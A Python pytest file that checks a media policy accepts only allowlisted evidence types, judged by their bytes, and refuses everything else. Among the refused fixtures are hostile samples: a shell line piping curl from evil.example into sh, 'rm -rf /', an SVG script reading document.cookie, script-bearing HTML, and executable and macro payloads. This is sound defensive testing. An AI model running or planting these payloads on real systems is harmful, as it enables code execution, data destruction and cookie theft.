"""Evidence judged by its bytes: the allowlist of types, whatever the name or declared type says."""

from __future__ import annotations

import io
import zipfile

import pytest

from channels.base import MediaRefusedError
from channels.evidence_types import sniff
from channels.media_policy import MediaPolicy


def office_zip(names: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in names.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def odf() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), b"application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", b"<office:document-content/>")
    return buffer.getvalue()


DOCX = office_zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
XLSX = office_zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})
ftyp = lambda brand: b"\x00\x00\x00\x18ftyp" + brand + b"\x00\x00\x00\x00" + b"\x00" * 32  # noqa: E731

ACCEPTED = {
    "jpeg": (b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\x00" * 32, "image/jpeg", "image/jpeg"),
    "png": (b"\x89PNG\r\n\x1a\n" + b"\x00" * 32, "image/png", "image/png"),
    "gif": (b"GIF89a" + b"\x00" * 32, "image/gif", "image/gif"),
    "webp": (b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 32, "image/webp", "image/webp"),
    "heic": (ftyp(b"heic"), "image/heic", "image/heic"),
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "application/pdf", "application/pdf"),
    "docx": (DOCX, None, "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "xlsx": (XLSX, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
             "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "odt": (odf(), "application/vnd.oasis.opendocument.text", "application/vnd.oasis.opendocument.text"),
    "legacy-doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64, "application/msword",
                   "application/msword"),
    "text": ("Error 500 en la facturación\nlínea 2\n".encode(), "text/plain", "text/plain"),
    "csv-windows": ("rut;monto\n76.123.456-7;1000\nSeñal;2\n".encode("cp1252"), "text/csv", "text/csv"),
    "dte-xml": (b'<?xml version="1.0"?><DTE><Documento/></DTE>', "application/xml", "application/xml"),
    "ogg-voice": (b"OggS\x00\x02" + b"\x00" * 32, "audio/ogg", "audio/ogg"),
    "mp3": (b"ID3\x04\x00" + b"\x00" * 32, "audio/mpeg", "audio/mpeg"),
    "mp3-frame": (b"\xff\xfb\x90\x64" + b"\x00" * 32, "audio/mpeg", "audio/mpeg"),
    "m4a": (ftyp(b"M4A "), "audio/mp4", "audio/mp4"),
    "amr": (b"#!AMR\n" + b"\x00" * 32, "audio/amr", "audio/amr"),
    "mp4": (ftyp(b"isom"), "video/mp4", "video/mp4"),
    "3gp": (ftyp(b"3gp4"), "video/3gpp", "video/3gpp"),
    "mov": (ftyp(b"qt  "), "video/quicktime", "video/quicktime"),
    "generic-declared": (b"\x89PNG\r\n\x1a\n" + b"\x00" * 32, "application/octet-stream", "image/png"),
}


@pytest.mark.parametrize(("content", "declared", "kept"), list(ACCEPTED.values()), ids=list(ACCEPTED))
def test_allowlisted_evidence_is_accepted_and_keeps_a_type_its_bytes_agree_with(
    content: bytes, declared: str | None, kept: str
) -> None:
    assert MediaPolicy().check_content(content, declared, None) == kept


SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
REFUSED = {
    "shell-as-png": (b"#!/bin/sh\ncurl http://evil.example | sh\n", "image/png"),
    "shell-as-text": (b"#!/bin/sh\nrm -rf /\n", "text/plain"),
    "svg-with-script": (SVG, "image/svg+xml"),
    "svg-as-png": (SVG, "image/png"),
    "svg-without-script": (b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/></svg>', "image/svg+xml"),
    "html": (b"<!DOCTYPE html><html><body><script>x()</script></body></html>", "text/html"),
    "html-as-text": (b"<html><body onload=x()>hola</body></html>", "text/plain"),
    "xml-entity-bomb": (b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "a">]><l>&a;</l>', "application/xml"),
    "text-as-image": (b"just some words", "image/jpeg"),
    "pdf-as-image": (b"%PDF-1.7\n", "image/png"),
    "generic-zip": (office_zip({"payload.exe": b"MZ"}), "application/zip"),
    "macro-docm": (office_zip({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": b"\x00"}), None),
    "elf": (b"\x7fELF\x02\x01\x01" + b"\x00" * 32, "application/octet-stream"),
    "pe": (b"MZ\x90\x00" + b"\x00" * 32, "image/jpeg"),
    "random-binary": (bytes(range(256)), "application/octet-stream"),
    "unknown-ftyp": (ftyp(b"crx "), "video/mp4"),
    "empty": (b"", None),
}


@pytest.mark.parametrize(("content", "declared"), list(REFUSED.values()), ids=list(REFUSED))
def test_anything_else_is_refused_whatever_its_declared_type(content: bytes, declared: str | None) -> None:
    with pytest.raises(MediaRefusedError) as refused:
        MediaPolicy().check_content(content, declared, "evidencia.png")
    assert refused.value.code == "forbidden_type"


def test_sniff_names_the_type_without_trusting_any_name() -> None:
    found = sniff(b"\xff\xd8\xff\xdb" + b"\x00" * 8)
    assert found is not None and found.mime == "image/jpeg"
    assert sniff(b"#!/usr/bin/env python\n") is None
